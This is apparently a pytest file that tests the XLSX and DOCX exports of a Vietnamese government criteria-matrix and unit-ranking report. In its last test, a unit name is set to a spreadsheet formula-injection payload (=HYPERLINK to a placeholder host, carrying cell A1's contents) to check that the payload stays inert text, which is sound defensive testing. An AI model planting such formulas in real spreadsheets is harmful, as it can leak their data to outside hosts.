"""The commune matrix (seed 003) and the ranking table (seed 004's shape)."""

from __future__ import annotations

from io import BytesIO

import openpyxl
import pytest
from docx import Document

from chiso.reports.services import ReportError, build_context, export_report
from chiso.units.models import Unit

from .conftest import put_values, store_framework

# Seed 003, criterion 8.4.c: 373 / 416 online dossiers = 89,66% ≥ 30%.
COMMUNE_OK = {
    "8.1.value": 1,
    "8.2.numerator": 5, "8.2.denominator": 5,
    "8.3.a.value": 1, "8.3.b.numerator": 5, "8.3.b.denominator": 5,
    "8.4.a.numerator": 30, "8.4.a.denominator": 40,
    "8.4.b.value": 4,
    "8.4.c.numerator": 373, "8.4.c.denominator": 416,
}


@pytest.fixture
def ntm(world):
    """ntm-xa-2021, year 2024: Phú Lâm meets all; Phú Mỹ has loudspeakers in 1/5 hamlets (8.3 fails);
    a third commune, Phú Thọ, did not report."""
    Unit.objects.filter(pk=world.commune_a.pk).update(attributes={"terrain": "lowland", "recognized_year": 2017})
    Unit.objects.filter(pk=world.commune_b.pk).update(attributes={"terrain": "mountain", "recognized_year": 2019})
    Unit.objects.create(code="AG-PT-PTH", name="UBND xã Phú Thọ", level="commune", kind="UBND xã",
                        parent=world.district, attributes={"recognized_year": 2021})
    fw = store_framework("ntm-xa-2021")
    put_values(fw, world.commune_a, "2024", COMMUNE_OK)
    put_values(fw, world.commune_b, "2024", {**COMMUNE_OK, "8.3.b.numerator": 1})
    return fw


def test_matrix_context_marks_met_criteria_with_D(ntm, world):
    ctx = build_context("matrix", ntm, "2024", unit=world.district)
    assert ctx.criteria == ["8.1", "8.2", "8.3", "8.4"]
    rows = {r.name: r for r in ctx.rows}
    assert [r.stt for r in ctx.rows] == ["01", "02", "03"]
    assert rows["UBND xã Phú Lâm"].marks == ["Đ", "Đ", "Đ", "Đ"]
    assert rows["UBND xã Phú Lâm"].year == "2017" and rows["UBND xã Phú Lâm"].upgraded == "Đ"
    assert rows["UBND thị trấn Phú Mỹ"].marks == ["Đ", "Đ", "", "Đ"]
    assert rows["UBND thị trấn Phú Mỹ"].upgraded == "" and rows["UBND thị trấn Phú Mỹ"].note == "Chưa đạt: 8.3"
    assert rows["UBND xã Phú Thọ"].note == "Chưa báo cáo" and rows["UBND xã Phú Thọ"].year == "2021"
    assert ctx.summary_line == "Có 1/3 đơn vị đạt tất cả tiêu chí (tỷ lệ 33,33%)."
    assert [g.heading for g in ctx.groups] == ["Cấp xã: 1/3 đơn vị đạt tất cả tiêu chí"]
    # the district's subtree is named as an area, never "…tỉnh An Giang UBND huyện Phú Tân"
    assert ctx.title.endswith("TRÊN ĐỊA BÀN HUYỆN PHÚ TÂN NĂM 2024"), ctx.title


def test_matrix_xlsx_and_docx(ntm, world):
    xlsx = export_report("matrix", "xlsx", ntm, "2024", unit=world.district)
    ws = openpyxl.load_workbook(BytesIO(xlsx.content)).active
    header = [c.value for c in ws[5]]
    assert header == ["STT", "Đơn vị", "Năm công nhận", "8.1", "8.2", "8.3", "8.4", "Nâng chất", "Phụ ghi"]
    body = {row[1]: row for row in ws.iter_rows(min_row=6, max_row=8, values_only=True)}
    assert body["UBND xã Phú Lâm"][2:8] == (2017, "Đ", "Đ", "Đ", "Đ", "Đ")
    assert body["UBND thị trấn Phú Mỹ"][3:9] == ("Đ", "Đ", None, "Đ", None, "Chưa đạt: 8.3")
    assert ws.freeze_panes == "A6" and ws.page_setup.orientation == "landscape"
    notes = [row[0] for row in ws.iter_rows(min_row=9, values_only=True) if row[0]]
    assert notes[:2] == ["Có 1/3 đơn vị đạt tất cả tiêu chí (tỷ lệ 33,33%).",
                         "- Cấp xã: 1/3 đơn vị đạt tất cả tiêu chí"]
    assert isinstance(body["UBND xã Phú Lâm"][0], int)  # STT 1 shown "01" by the format "00"

    docx = export_report("matrix", "docx", ntm, "2024", unit=world.district)
    table = Document(BytesIO(docx.content)).tables[0]
    second = [c.text for c in table.rows[1].cells]
    assert second[3:7] == ["8.1", "8.2", "8.3", "8.4"]
    assert "Tiêu chí" in [c.text for c in table.rows[0].cells]
    lam = next(r for r in table.rows if r.cells[1].text == "UBND xã Phú Lâm")
    assert [c.text for c in lam.cells] == ["01", "UBND xã Phú Lâm", "2017", "Đ", "Đ", "Đ", "Đ", "Đ", ""]
    my = next(r for r in table.rows if r.cells[1].text == "UBND thị trấn Phú Mỹ")
    assert [c.text for c in my.cells][3:] == ["Đ", "Đ", "", "Đ", "", "Chưa đạt: 8.3"]


def test_commune_appendix_shows_composite_items(ntm, world):
    ctx = build_context("appendix", ntm, "2024", unit=world.commune_a)
    item = next(r for r in ctx.rows if r.name.startswith("c) "))
    assert item.result == "89,66%" and item.verdict == "Đạt" and item.target == "≥ 30%"
    assert any("373 / 416" in line for line in item.content_lines)


# --------------------------------------------------------------------------- ranking

ALL_MAX_PROVINCE = {"1.value": 15, "2.value": 12, "3.value": 8, "4.value": 12,
                    "5.value": 20, "6.value": 14, "7.value": 15, "8.value": 12}


@pytest.fixture
def ranking(world):
    """xep-hang-mau: Sở TTTT full marks; Sở Nội vụ 3 points on criterion 2 (minimum 5) so
    "Điều kiện sẵn sàng" is not ranked whatever its total; the other units did not report."""
    fw = store_framework("xep-hang-mau")
    put_values(fw, world.agency_a, "2024", ALL_MAX_PROVINCE)
    put_values(fw, world.agency_b, "2024", {**ALL_MAX_PROVINCE, "2.value": 3, "5.value": 12})
    return fw


def test_ranking_context_levels_reasons_and_not_reported(ranking, world):
    ctx = build_context("ranking", ranking, "2024", unit=world.province)
    assert ctx.categories == ["Điều kiện sẵn sàng", "Ứng dụng và cung cấp dịch vụ"]
    first, second = ctx.rows
    assert first.name == "Sở Thông tin và Truyền thông"
    assert [c.level for c in first.cells] == ["Mức 4", "Mức 4"]
    assert (first.total, first.max_total, first.share) == ("108", "108", "100,00%")
    assert second.name == "Sở Nội vụ"
    ready, use = second.cells
    assert ready.level == "Không xếp hạng" and not ready.ranked
    assert ready.points == "38" and ready.reason == "Tiêu chí 2 đạt 3 điểm, dưới mức tối thiểu 5 điểm"
    assert use.level == "Mức 4"  # 53/61 = 86,89% ≥ 85%
    assert second.total == "91" and second.share == "84,26%"
    assert second.note == "Điều kiện sẵn sàng: Tiêu chí 2 đạt 3 điểm, dưới mức tối thiểu 5 điểm"
    assert set(ctx.not_reported) == {"UBND huyện Phú Tân", "UBND xã Phú Lâm", "UBND thị trấn Phú Mỹ"}
    assert ctx.not_reported_line.startswith("Đơn vị chưa báo cáo, không đánh giá được: 3/5")


def test_ranking_xlsx_and_docx(ranking, world):
    wb = openpyxl.load_workbook(BytesIO(export_report("ranking", "xlsx", ranking, "2024", unit=world.province).content))
    ws = wb["Xếp hạng"]
    rows = {r[1]: r for r in ws.iter_rows(min_row=6, max_row=7, values_only=True)}
    snv = rows["Sở Nội vụ"]
    assert snv[3:5] == (38, "Không xếp hạng")  # points are numbers
    assert snv[7:9] == (91, 108) and round(snv[9], 6) == round(91 / 108, 6)
    snv_cells = next(r for r in ws.iter_rows(min_row=6, max_row=7) if r[1].value == "Sở Nội vụ")
    assert snv_cells[9].number_format == "0.00%" and snv_cells[7].number_format == "#,##0"
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert [r[1] for r in wb["Chưa báo cáo"].iter_rows(min_row=2, values_only=True)] == [
        "UBND huyện Phú Tân", "UBND xã Phú Lâm", "UBND thị trấn Phú Mỹ"]

    doc = Document(BytesIO(export_report("ranking", "docx", ranking, "2024", unit=world.province).content))
    table = doc.tables[0]
    assert [c.text for c in table.rows[0].cells][3:5] == ["Điều kiện sẵn sàng", "Ứng dụng và cung cấp dịch vụ"]
    snv_row = next(r for r in table.rows if r.cells[1].text == "Sở Nội vụ")
    assert snv_row.cells[3].text == "38 điểm\nKhông xếp hạng"
    assert snv_row.cells[6].text == "84,26%"
    # the reason is a numbered note under the table, so the row stays one line high
    assert snv_row.cells[7].text == "(1)"
    assert [r.cells[0].text for r in table.rows][1] == "Cấp tỉnh"  # rows grouped by level
    texts = [p.text for p in doc.paragraphs]
    assert ("(1) Sở Nội vụ – Điều kiện sẵn sàng: Tiêu chí 2 đạt 3 điểm, dưới mức tối thiểu 5 điểm"
            in texts)
    assert "- UBND huyện Phú Tân" in texts
    assert sum(t.count("UBND huyện Phú Tân") for t in texts) == 1  # listed once, not twice


def test_ranking_of_a_criteria_framework_is_refused(ntm, world):
    with pytest.raises(ReportError, match="không phải bộ chấm điểm"):
        export_report("ranking", "xlsx", ntm, "2024", unit=world.district)


def test_a_unit_name_that_looks_like_a_formula_stays_text(ntm, world):
    Unit.objects.filter(pk=world.commune_b.pk).update(name='=HYPERLINK("http://x/?"&A1,"Phú Mỹ")')
    out = export_report("matrix", "xlsx", ntm, "2024", unit=world.district)
    ws = openpyxl.load_workbook(BytesIO(out.content)).active
    cell = next(c for row in ws.iter_rows(min_col=2, max_col=2) for c in row
                if str(c.value).startswith("=HYPERLINK"))
    assert cell.data_type == "s" and cell.value == '=HYPERLINK("http://x/?"&A1,"Phú Mỹ")'
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
